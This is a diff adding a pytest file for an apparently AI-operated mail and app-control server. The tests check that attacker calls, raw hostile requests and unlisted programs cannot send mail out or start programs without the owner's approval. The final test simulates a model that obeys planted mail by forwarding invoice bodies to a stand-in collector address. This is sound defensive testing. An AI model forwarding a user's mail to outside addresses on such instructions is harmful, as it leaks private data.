@@ -1,0 +1,86 @@
+"""Calls that somebody else wanted: nothing leaves the mailbox and no program starts without the person's word."""
+
+import pytest
+
+from tests.checks.attacker import Attacker, make_attacker
+from tests.checks.hostile import DISGUISES, EVE, LISTED, SUBJECTS, UNLISTED, list_orders, mail
+from tests.checks.hostile_requests import REQUESTS
+from tests.checks.outside import Outside
+
+AT_ONCE = 8  # of a client's ten calls that may wait
+
+
+@pytest.fixture
+def server(start, signed_in):
+    return start("--demo", data=signed_in.data, DESKHAND_DEMO_GOOGLE="own")
+
+
+@pytest.fixture
+def outside(server, signed_in) -> Outside:
+    return Outside(signed_in, server)
+
+
+def find_prey(attacker: Attacker) -> dict[str, str]:
+    """Ids of a mail that asks for bad things, of its thread, and of a draft."""
+    bad = attacker.call("search_mail", {"query": '"Access card renewal"'}).json()["messages"][0]
+    draft = attacker.call("list_drafts", {}).json()["drafts"][0]
+    return {"message": bad["id"], "thread": bad["thread_id"], "draft": draft["draft_id"]}
+
+
+def test_there_are_enough_of_them(server) -> None:
+    orders = list_orders({"message": "1", "thread": "1", "draft": "1"})
+    assert len(orders) + len(REQUESTS) + 3 * len(DISGUISES) + len(SUBJECTS) + len(UNLISTED) >= 200
+
+
+def test_what_was_not_allowed_does_not_happen(server, outside) -> None:
+    attacker = make_attacker(server)
+    orders = list_orders(find_prey(attacker))
+    before, made = outside.history(), 0
+    for number, order in enumerate(orders):
+        if number % AT_ONCE == 0:
+            attacker = make_attacker(server)
+        answer = attacker.call(order.operation, order.arguments)
+        made += 1
+        assert answer.status_code in {202, 403, 404, 409, 422}, f"{order.title}: {answer.text}"
+        assert (outside.reached(), outside.started(), outside.history()) == ([], [], before), order.title
+    assert made > 90
+
+
+def test_a_request_that_is_no_call_does_nothing(server, outside) -> None:
+    before = outside.history()
+    owner = make_attacker(server, "owner", allow=["send_mail", "control_app"])
+    for number, raw in enumerate(REQUESTS):
+        if number % AT_ONCE == 0:
+            attacker = make_attacker(server, "hostile" if number == 0 else "")
+            asked = attacker.call("send_mail", mail(to=EVE, subject=f"It waits {number}"))
+        answer = attacker.send_raw(raw, asked.json().get("approval_id", "call-1"))
+        assert answer.startswith(b"HTTP/1.1 "), raw.title
+        assert not answer.startswith(b"HTTP/1.1 5"), f"{raw.title}: {answer[:200]!r}"
+        assert (outside.reached(), outside.started(), outside.history()) == ([], [], before), raw.title
+    clients = {client["name"]: client for client in server.person("GET", "/api/clients").json()}
+    assert "eve" not in clients
+    assert clients[owner.name]["calls_today"] == 0
+    assert clients["hostile"]["operations"]["send_mail"] == "ask"
+    assert server.person("GET", "/api/origins").json()["allowed"] == []
+
+
+def test_a_program_that_is_not_listed_never_starts_even_where_all_is_allowed(server, outside) -> None:
+    attacker = make_attacker(server, allow=["control_app"])
+    for title, order in UNLISTED.items():
+        answer = attacker.call("control_app", order)
+        assert answer.status_code in {403, 404, 409, 422}, f"{title}: {answer.text}"
+        assert outside.started() == [], title
+    assert attacker.call("control_app", LISTED["a listed program"]).status_code == 200
+    assert [line[-1] for line in outside.started()] == ["3601"]
+    attacker.call("control_app", LISTED["a listed program"] | {"action": "stop"})
+
+
+def test_a_model_that_obeys_a_mail_sends_nothing(server, outside) -> None:
+    model = make_attacker(server)
+    found = model.call("search_mail", {"query": "invoice"}).json()["messages"]
+    assert found
+    for one in found:
+        text = model.call("read_mail", {"message_id": one["id"]}).json()["body"]
+        answer = model.call("send_mail", {"to": "collector@example.net", "subject": "Fwd", "body": text})
+        assert answer.status_code in {202, 403, 429}
+    assert outside.reached() == []
